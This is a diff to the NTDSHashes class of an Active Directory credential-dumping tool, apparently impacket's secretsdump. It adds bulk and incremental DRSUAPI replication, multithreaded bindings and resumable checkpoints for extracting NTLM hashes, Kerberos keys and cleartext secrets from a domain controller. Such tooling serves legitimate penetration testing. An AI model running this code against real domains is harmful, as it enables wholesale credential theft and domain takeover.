+                        for (userName, userSid, _), (userRecord, drsr) in zip(pageEntries, userRecords):
+                            # userRecord.dump()
+                            replyVersion = 'V%d' % userRecord['pdwOutVersion']
+                            if userRecord['pmsgOut'][replyVersion]['cNumObjects'] == 0:
+                                raise Exception('DRSGetNCChanges didn\'t return any object!')
                             try:
                                 self.__decryptHash(userRecord,
                                                    userRecord['pmsgOut'][replyVersion]['PrefixTableSrc']['pPrefixEntry'],
-                                                   hashesOutputFile)
+                                                   hashesOutputFile, drsr)
                                 if self.__justNTLM is False:
                                     self.__decryptSupplementalInfo(userRecord, userRecord['pmsgOut'][replyVersion]['PrefixTableSrc'][
-                                        'pPrefixEntry'], keysOutputFile, clearTextOutputFile)
+                                        'pPrefixEntry'], keysOutputFile, clearTextOutputFile, drsr)
 
                             except Exception as e:
-                                LOG.error("Error while processing user!")
+                                LOG.error("Error while processing user %s!" % userName)
                                 LOG.debug("Exception", exc_info=True)
                                 LOG.error(str(e))
 
-                            # Saving the session state
-                            self.__resumeSession.writeResumeData(userSid)
+                            # Saving the session state, in batches of RESUME_CHECKPOINT_INTERVAL users
+                            doneRids.add(int(userSid.split('-')[-1]))
+                            pendingUsers += 1
+                            if pendingUsers >= self.RESUME_CHECKPOINT_INTERVAL:
+                                self.__writeCheckpoint({'method': 'samr', 'enumerationContext': enumerationContext,
+                                                        'doneRids': sorted(doneRids)},
+                                                       hashesOutputFile, keysOutputFile, clearTextOutputFile)
+                                pendingUsers = 0
 
                         enumerationContext = resp['EnumerationContext']
                         status = resp['ErrorCode']
+                        doneRids = set()
+                        if status == STATUS_MORE_ENTRIES:
+                            self.__writeCheckpoint({'method': 'samr', 'enumerationContext': enumerationContext,
+                                                    'doneRids': []},
+                                                   hashesOutputFile, keysOutputFile, clearTextOutputFile)
+                            pendingUsers = 0
 
                 # Everything went well and we covered all the users
                 # Let's remove the resume file is we had created it
@@ -2590,6 +2807,183 @@ class NTDSHashes:
 
             self.__resumeSession.endTransaction()
 
+            self.__closeDrsuapiWorkers()
+
+    def __writeCheckpoint(self, resumeData, hashesOutputFile, keysOutputFile, clearTextOutputFile):
+        # The outputs are flushed first, so the saved offsets only cover what is on disk already
+        resumeData['outputOffsets'] = {}
+        for name, outputFile in (('hashes', hashesOutputFile), ('keys', keysOutputFile),
+                                 ('clearText', clearTextOutputFile)):
+            if outputFile is not None:
+                outputFile.flush()
+                resumeData['outputOffsets'][name] = outputFile.tell()
+        self.__resumeSession.writeResumeData(resumeData)
+
+    def __truncateOutput(self, resumeData):
+        for name, extension in (('hashes', '.ntds'), ('keys', '.ntds.kerberos'), ('clearText', '.ntds.cleartext')):
+            fileName = self.__outputFileName + extension
+            if name in resumeData.get('outputOffsets', {}) and os.path.isfile(fileName):
+                with open(fileName, 'r+b') as outputFile:
+                    outputFile.truncate(resumeData['outputOffsets'][name])
+
+    def __openDrsuapiWorkers(self):
+        # Every worker thread gets its own RemoteOperations clone, hence its own DRSUAPI binding
+        if self.__drsuapiPool is not None:
+            return
+        LOG.info('Replicating users through %d DRSUAPI bindings' % self.__drsuapiWorkers)
+        for i in range(self.__drsuapiWorkers):
+            remoteOps = self.__remoteOps.cloneForDrsuapi()
+            self.__drsuapiClones.append(remoteOps)
+            self.__idleClones.put(remoteOps)
+        self.__drsuapiPool = ThreadPoolExecutor(max_workers=self.__drsuapiWorkers)
+
+    def __closeDrsuapiWorkers(self):
+        if self.__drsuapiPool is not None:
+            self.__drsuapiPool.shutdown(wait=True)
+            self.__drsuapiPool = None
+        for remoteOps in self.__drsuapiClones:
+            try:
+                remoteOps.finish()
+            except Exception as e:
+                LOG.debug('Error while closing DRSUAPI binding: %s' % str(e))
+        self.__drsuapiClones = []
+
+    def __replicateInWorker(self, userEntry):
+        remoteOps = getattr(self.__workerLocal, 'remoteOps', None)
+        if remoteOps is None:
+            remoteOps = self.__idleClones.get_nowait()
+            self.__workerLocal.remoteOps = remoteOps
+        userRecord = remoteOps.DRSGetNCChanges(userEntry)
+        return userRecord, remoteOps.getDrsr()
+
+    def __replicateUsers(self, userEntries):
+        # Yields (userRecord, drsr) in the same order as userEntries. With several DRSUAPI workers the
+        # entries are spread across the bindings while the caller keeps being the only writer.
+        if self.__drsuapiPool is not None:
+            for result in self.__drsuapiPool.map(self.__replicateInWorker, userEntries):
+                yield result
+        else:
+            for userEntry in userEntries:
+                userRecord = self.__remoteOps.DRSGetNCChanges(userEntry)
+                yield userRecord, self.__remoteOps.getDrsr()
+
+    def __dumpBulk(self, hashesOutputFile, keysOutputFile, clearTextOutputFile, resumeData=None):
+        # Replicates the whole domain NC in pages of BULK_MAX_OBJECTS objects instead of asking
+        # DRSCrackNames() + DRSGetNCChanges() for every single user.
+        # With a replicationState from a previous run only the objects changed since its watermark are asked for.
+        # Those come with just the attributes that changed, so every changed account is replicated again on its own.
+        # A full replication saves a resume checkpoint after every page.
+        ncEntry = self.__remoteOps.getDomainNCEntry()
+        if resumeData is not None:
+            fullSync = True
+            usnvecFrom = resumeData['usnvecFrom']
+            invocationId = unhexlify(resumeData['invocationId'])
+            upToDateVector = None
+            LOG.info('Resuming the bulk replication of the domain naming context from USN %d' %
+                     usnvecFrom['usnHighObjUpdate'])
+        elif self.__replicationState is None:
+            LOG.info('Replicating the domain naming context in bulk (up to %d objects per request)' % self.BULK_MAX_OBJECTS)
+            fullSync = True
+            usnvecFrom = None
+            invocationId = None
+            upToDateVector = None
+        else:
+            fullSync = False
+            usnvecFrom = self.__replicationState['usnvecTo']
+            invocationId = self.__replicationState['invocationId']
+            upToDateVector = self.__replicationState['upToDateVector']
+            LOG.info('Replicating the changes of the domain naming context since USN %d' % usnvecFrom['usnHighObjUpdate'])
+        self.__bulkObjects = 0
+        self.__deletedRids = []
+        changedEntries = []
+        while True:
+            reply = self.__remoteOps.DRSGetNCChangesBulk(ncEntry, usnvecFrom, invocationId,
+                                                         maxObjects=self.BULK_MAX_OBJECTS,
+                                                         maxBytes=self.BULK_MAX_BYTES,
+                                                         upToDateVector=upToDateVector, fullSync=fullSync)
+            replyVersion = 'V%d' % reply['pdwOutVersion']
+            prefixTable = reply['pmsgOut'][replyVersion]['PrefixTableSrc']['pPrefixEntry']
+            for entinf in self.__iterEntinf(reply['pmsgOut'][replyVersion]):
+                if fullSync is False:
+                    self.__collectChangedEntinf(entinf, changedEntries)
+                    continue
+                if self.__isAccountEntinf(entinf, prefixTable) is False:
+                    continue
+                try:
+                    self.__decryptHash(entinf, prefixTable, hashesOutputFile)
+                    if self.__justNTLM is False:
+                        self.__decryptSupplementalInfo(entinf, prefixTable, keysOutputFile, clearTextOutputFile)
+                except Exception as e:
+                    LOG.error("Error while processing user!")
+                    LOG.debug("Exception", exc_info=True)
+                    LOG.error(str(e))
+                self.__bulkObjects += 1
+
+            LOG.debug('DRSGetNCChanges returned %d objects, %d accounts processed so far' % (
+                reply['pmsgOut'][replyVersion]['cNumObjects'], self.__bulkObjects))
+            usnvecFrom = reply['pmsgOut'][replyVersion]['usnvecTo']
+            invocationId = reply['pmsgOut'][replyVersion]['uuidInvocIdSrc']
+            if not reply['pmsgOut'][replyVersion]['fMoreData']:
+                break
+            if fullSync is True:
+                self.__writeCheckpoint({'method': 'bulk',
+                                        'usnvecFrom': {'usnHighObjUpdate': usnvecFrom['usnHighObjUpdate'],
+                                                       'usnHighPropUpdate': usnvecFrom['usnHighPropUpdate']},
+                                        'invocationId': hexlify(invocationId).decode('utf-8')},
+                                       hashesOutputFile, keysOutputFile, clearTextOutputFile)
+
+        if fullSync is False:
+            LOG.info('%d objects with a SID changed and %d were deleted since the last replication' % (
+                len(changedEntries), len(self.__deletedRids)))
+            if len(changedEntries) > 0 and self.__drsuapiWorkers > 1:
+                self.__openDrsuapiWorkers()
+            for userRecord, drsr in self.__replicateUsers(changedEntries):
+                replyVersion = 'V%d' % userRecord['pdwOutVersion']
+                if userRecord['pmsgOut'][replyVersion]['cNumObjects'] == 0:
+                    continue
+                prefixTable = userRecord['pmsgOut'][replyVersion]['PrefixTableSrc']['pPrefixEntry']
+                if self.__isAccountEntinf(self.__getEntinf(userRecord), prefixTable) is False:
+                    continue
+                try:
+                    self.__decryptHash(userRecord, prefixTable, hashesOutputFile, drsr)
+                    if self.__justNTLM is False:
+                        self.__decryptSupplementalInfo(userRecord, prefixTable, keysOutputFile, clearTextOutputFile,
+                                                       drsr)
+                except Exception as e:
+                    LOG.error("Error while processing user!")
+                    LOG.debug("Exception", exc_info=True)
+                    LOG.error(str(e))
+                self.__bulkObjects += 1
+
+        # The up-to-dateness vector only comes with the last reply of the cycle
+        upToDateVecSrc = reply['pmsgOut'][replyVersion]['pUpToDateVecSrc']
+        if isinstance(upToDateVecSrc, drsuapi.UPTODATE_VECTOR_V2_EXT):
+            upToDateVector = [(cursor['uuidDsa'], cursor['usnHighPropUpdate'])
+                              for cursor in upToDateVecSrc['rgCursors']]
+        self.__newReplicationState = {
+            'fullSync': fullSync,
+            'invocationId': invocationId,
+            'usnvecTo': {'usnHighObjUpdate': usnvecFrom['usnHighObjUpdate'],
+                         'usnHighPropUpdate': usnvecFrom['usnHighPropUpdate']},
+            'upToDateVector': upToDateVector if upToDateVector is not None else [],
+            'deletedRids': self.__deletedRids,
+        }
+
+    def __collectChangedEntinf(self, entinf, changedEntries):
+        # Incremental replies hold the changed attributes only, keep the object GUID to replicate it again later
+        # and the RID of the deleted accounts to drop them from the previous dump
+        if entinf['pName']['SidLen'] == 0:
+            return
+        if entinf['pName']['StringName'].find('\nDEL:') >= 0:
+            self.__deletedRids.append(unpack('<L', entinf['pName']['Sid'][-4:])[0])
+            return
+        changedEntries.append('{%s}' % bin_to_string(entinf['pName']['Guid']))
+
+    def getReplicationState(self):
+        # State of the last bulk replication (None if it didn't happen). Its usnvecTo, invocationId and
+        # upToDateVector can be given back as replicationState to get just the changes on the next run.
+        return self.__newReplicationState
+
     @classmethod
     def __writeOutput(cls, fd, data):
         try: